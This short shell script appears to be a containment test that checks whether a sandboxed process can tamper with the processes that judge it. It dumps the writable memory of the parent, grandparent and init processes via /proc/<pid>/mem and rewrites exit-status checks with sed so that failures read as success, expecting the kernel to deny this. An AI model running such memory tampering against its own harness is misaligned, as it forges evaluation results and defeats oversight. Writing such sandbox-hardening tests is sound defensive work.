# tries: rewrite the verdict in the memory of the processes that judge
# holds: they are not dumpable
command -v sed >/dev/null || cannot "the image has no sed"
for process in 1 $PPID $(cut -d' ' -f4 /proc/$PPID/stat); do
  while read -r range mode _; do
    case $mode in rw*) ;; *) continue ;; esac
    begin=$((0x${range%-*} / 4096)) end=$((0x${range#*-} / 4096))
    [ $((end - begin)) -lt 1024 ] || continue
    dd if=/proc/$process/mem of=/tmp/memory bs=4096 skip=$begin count=$((end - begin)) 2>/dev/null || continue
    LC_ALL=C sed 's/=\$?/=0 /g; s/|| exit/|| true/g; s/exit \$/exit 0/g' /tmp/memory >/tmp/changed
    dd if=/tmp/changed of=/proc/$process/mem bs=4096 seek=$begin conv=notrunc 2>/dev/null && echo "wrote $process $range"
  done </proc/$process/maps
done 2>/dev/null
tried "the kernel denies it"
